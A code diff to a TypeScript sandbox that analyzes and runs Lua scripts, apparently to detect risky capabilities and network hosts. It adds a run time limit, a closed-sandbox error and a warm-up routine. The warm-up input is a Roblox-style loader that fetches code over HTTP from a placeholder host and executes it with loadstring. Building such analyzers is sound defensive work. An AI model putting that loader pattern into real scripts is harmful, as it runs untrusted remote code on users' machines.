@@ -9,7 +9,7 @@ import { type CompileResult, type RunResult, STOPPED } from './results.ts'
 
 export type { CompileResult, RunResult } from './results.ts'
 
-/** A script could not be analyzed: the analysis broke or took too long. */
+/** A script could not be analyzed: the analysis broke or took too long, or the sandbox is closed. */
 export class SandboxError extends Error {}
 
 export interface SandboxOptions {
@@ -17,11 +17,17 @@ export interface SandboxOptions {
   concurrency?: number
   /** Milliseconds after which a process without work ends. Default 60,000. */
   idleMs?: number
+  /** Milliseconds of processor time for a run. Default 3,000. */
+  runMs?: number
 }
 
 /** Longer than a process takes at most for a job; a process that has not answered by then is killed. */
 const JOB_MS = 30_000
 const MAX_HEAP_MB = 256
+
+/** Uses most of the analyzer. */
+const WARM_UP =
+  'local get = game.HttpGet\nfor _, url in ipairs({"https://a.com"}) do loadstring(get(game, url:lower()))() end'
 
 const ENTRY = fileURLToPath(new URL(import.meta.url.endsWith('.ts') ? 'child.ts' : 'child.js', import.meta.url))
 
@@ -30,6 +36,11 @@ function folderOf(specifier: string): string {
   const file = findPackageJSON(specifier, import.meta.url)
   if (file === undefined) throw new Error(`The package of ${specifier} was not found`)
   return path.dirname(file)
+}
+
+/** The sandbox was closed, or the process broke: the next caller starts another. */
+function ignoreSandboxError(error: unknown): void {
+  if (!(error instanceof SandboxError)) throw error
 }
 
 interface Waiting {
@@ -51,11 +62,18 @@ export class Sandbox {
   private readonly slots: Slot[]
   private readonly queue: Waiting[] = []
   private readonly idleMs: number
+  private readonly runMs: number
   private isClosed = false
 
-  constructor({ concurrency = 1, idleMs = 60_000 }: SandboxOptions = {}) {
+  constructor({ concurrency = 1, idleMs = 60_000, runMs = 3000 }: SandboxOptions = {}) {
     this.slots = Array.from({ length: concurrency }, () => ({ child: undefined, isBusy: false, idleTimer: undefined }))
     this.idleMs = idleMs
+    this.runMs = runMs
+  }
+
+  /** Starts a process and has it analyze a script, so that the first caller does not wait for that. */
+  async warmUp(): Promise<void> {
+    await this.analyze(WARM_UP).catch(ignoreSandboxError)
   }
 
   /** Analyzes a script without running it. Throws a SandboxError if the analysis breaks. */
@@ -71,9 +89,9 @@ export class Sandbox {
     return answer.type === 'compiled' ? answer.result : { compiles: null, error: null }
   }
 
-  /** Runs a script for at most 3 seconds. What stopped it stands in `opaque`. */
+  /** Runs a script for at most `runMs`. What stopped it stands in `opaque`. */
   async run(code: string): Promise<RunResult> {
-    const answer = await this.add({ type: 'run', code })
+    const answer = await this.add({ type: 'run', code, limitMs: this.runMs })
     if (answer.type === 'ran') return answer.result
     return { capabilities: [], hosts: [], opaque: [{ reason: STOPPED.crash, count: 1 }] }
   }
@@ -86,7 +104,7 @@ export class Sandbox {
   }
 
   private add(job: Job): Promise<Answer> {
-    if (this.isClosed) throw new Error('The sandbox is closed')
+    if (this.isClosed) throw new SandboxError('The sandbox is closed')
     const { promise, resolve } = Promise.withResolvers<Answer>()
     this.queue.push({ job, resolve })
     this.work()
